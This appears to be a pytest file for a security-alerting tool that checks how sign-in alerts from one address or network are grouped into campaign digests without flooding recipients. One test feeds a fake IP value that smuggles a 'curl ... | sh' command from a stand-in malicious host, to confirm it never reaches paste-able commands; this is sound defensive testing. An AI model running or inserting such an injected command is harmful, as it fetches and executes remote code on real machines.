"""Alerts about many people from one address or network are sent in few digests."""

from datetime import datetime, timedelta

from oktawatch.detection.registry import RuleSettings, build_rules
from oktawatch.engine.database import DatabaseExecutor
from oktawatch.model.event import Event
from tests.support.databases import NOW
from tests.support.delivery import digests, notifier
from tests.support.outbox import Clock, Receiver, put, sign_in
from tests.support.streams import event

LOW_RULES = build_rules(
    {"Okta.Anonymizing.VPN.Login": RuleSettings(options={"severity": "LOW"})}, read_file=lambda name: name
)
SOURCE = {"ipAddress": "203.0.113.7"}


def person(number: int) -> dict[str, str]:
    """Return the actor of an event."""
    return {"id": f"00u{number}", "alternateId": f"user{number}@example.com"}


async def test_alerts_of_one_address_are_one_message(database: DatabaseExecutor, clock: Clock) -> None:
    """The alerts of one address about many people are one message; other alerts are sent separately."""
    put(database.database, *(sign_in(n) for n in range(8)), sign_in(20, ip="198.51.100.9"))
    receiver = Receiver()

    await notifier(receiver, database, clock, per_minute=30).round()

    (digest,) = digests(receiver)
    assert (digest["reason"], digest["source"], digest["alerts"], digest["people"]) == (
        "campaign", "203.0.113.7", 8, 8,
    )  # fmt: skip
    assert len(receiver.taken) == 2
    (message,) = [message for message in receiver.taken if message.type == "digest"]
    assert message.heading == "[MEDIUM] Campaign from 203.0.113.7: 8 tried (acme)"
    assert "Tried: user0@example.com, user1@example.com" in message.plain()
    assert "--ip 203.0.113.7" in message.plain()


async def test_a_success_below_medium_raises_the_digest(database: DatabaseExecutor, clock: Clock) -> None:
    """Below MEDIUM, an alert rises without a change of its severity. The digest is still raised for the success."""
    put(
        database.database,
        event(1, actor=person(1), client=SOURCE, outcome={"result": "FAILURE"}),
        event(2, actor=person(1), client=SOURCE, outcome={"result": "SUCCESS"}, at=timedelta(seconds=1)),
        rules=LOW_RULES,
    )
    put(database.database, *(sign_in(n) for n in range(11, 18)))
    receiver = Receiver()

    await notifier(receiver, database, clock, per_minute=30).round()

    (digest,) = digests(receiver)
    assert digest["severities"] == {"MEDIUM": 7, "LOW": 1}
    assert (digest["got_in"], digest["risen"], digest["severity"]) == (1, False, "HIGH")


async def test_a_slow_campaign_counts_people_of_earlier_messages(
    database: DatabaseExecutor, clock: Clock
) -> None:
    """A slow campaign counts people who were sent one by one before, and collects later alerts."""
    soc = notifier(receiver := Receiver(), database, clock, per_minute=30)
    for n in range(12):
        put(database.database, sign_in(n, at=clock()), now=clock())
        await soc.round()
        clock.advance(seconds=30)
    types = [message.type for message in receiver.taken]
    assert types == ["alert.opened"] * 4 + ["digest"]
    assert (digests(receiver)[0]["alerts"], digests(receiver)[0]["people"]) == (1, 5)
    clock.advance(minutes=8)

    await soc.round()

    (again,) = digests(receiver)[1:]
    assert (again["reason"], again["alerts"]) == ("campaign", 7)


def failed(number: int, at: datetime) -> Event:
    """Return a failed sign-in of another person from the campaign's address."""
    result = {"result": "FAILURE"}
    return event(number, at=at - NOW, actor=person(number), client=SOURCE, outcome=result)


def succeeded(number: int, at: datetime) -> Event:
    """Return a successful sign-in of another person from the campaign's address."""
    result = {"result": "SUCCESS"}
    return event(number, at=at - NOW, actor=person(number), client=SOURCE, outcome=result)


async def test_a_success_in_a_campaign_of_failures_is_sent_at_once(
    database: DatabaseExecutor, clock: Clock
) -> None:
    """After a campaign's digest, a person who gets in at the first attempt is sent at once, and failures are collected."""
    soc = notifier(receiver := Receiver(), database, clock, per_minute=10)
    put(database.database, *(failed(n, clock()) for n in range(8)))
    await soc.round()
    clock.advance(minutes=2)
    put(database.database, failed(8, clock()), succeeded(9, clock()), failed(10, clock()), now=clock())

    await soc.round()

    assert [message.type for message in receiver.taken] == ["digest", "alert.opened"]
    assert "user9@example.com signed in" in receiver.taken[1].heading
    clock.advance(minutes=9)
    await soc.round()
    assert [digest["alerts"] for digest in digests(receiver)] == [8, 2]


async def test_a_campaign_of_successes_causes_no_flood(database: DatabaseExecutor, clock: Clock) -> None:
    """If many people get in from one address, all are sent in the campaign's digests after the first four."""
    soc = notifier(receiver := Receiver(), database, clock, per_minute=10)
    for n in range(120):
        put(database.database, succeeded(n, clock()), now=clock())
        await soc.round()
        clock.advance(seconds=30)

    types = [message.type for message in receiver.taken]
    assert types == ["alert.opened"] * 4 + ["digest"] * 6


async def test_successes_right_after_a_campaign_digest_cause_no_flood(
    database: DatabaseExecutor, clock: Clock
) -> None:
    """Successes that wait from one digest of a campaign to the next are still counted, and sent in the next one."""
    soc = notifier(receiver := Receiver(), database, clock, per_minute=10)
    put(database.database, *(failed(n, clock()) for n in range(8)))
    await soc.round()
    put(database.database, *(succeeded(n, clock()) for n in range(8, 48)), now=clock())
    await soc.round()
    clock.advance(minutes=10, seconds=1)
    await soc.round()

    assert [digest["alerts"] for digest in digests(receiver)] == [8, 40]
    assert len(receiver.taken) == 2


async def test_many_addresses_of_one_network_are_a_campaign(database: DatabaseExecutor, clock: Clock) -> None:
    """Many addresses of one network are a campaign, too."""
    events = [sign_in(n, ip=f"198.51.100.{n}", network=64500) for n in range(6)]
    put(database.database, *events)
    receiver = Receiver()

    await notifier(receiver, database, clock, per_minute=30).round()

    (digest,) = digests(receiver)
    assert (digest["reason"], digest["source"]) == ("campaign", "64500")
    assert receiver.taken[0].heading == "[MEDIUM] Campaign from AS64500: 6 tried (acme)"


async def test_one_person_is_no_campaign(database: DatabaseExecutor, clock: Clock) -> None:
    """Many alerts about one person are not a campaign."""
    events = [sign_in(n, who=1, at=NOW - timedelta(minutes=1), ip="203.0.113.7") for n in range(3)]
    put(database.database, *events)
    receiver = Receiver()

    await notifier(receiver, database, clock, per_minute=30).round()

    assert digests(receiver) == []


async def test_text_that_poses_as_an_address_gets_into_no_command(
    database: DatabaseExecutor, clock: Clock
) -> None:
    """Text that poses as an address does not get into a command for people to paste."""
    hostile = "203.0.113.7; curl https://evil.example.org | sh"
    put(database.database, *(sign_in(n, ip=hostile) for n in range(6)))
    receiver = Receiver()

    await notifier(receiver, database, clock, per_minute=10).round()

    (message,) = receiver.taken
    assert "Look: oktawatch alerts list --since 2026-11-02T12:00:00Z" in message.plain().splitlines()
    for form in (message.plain(), message.markdown(), message.html(), message.heading):
        assert "://" not in form
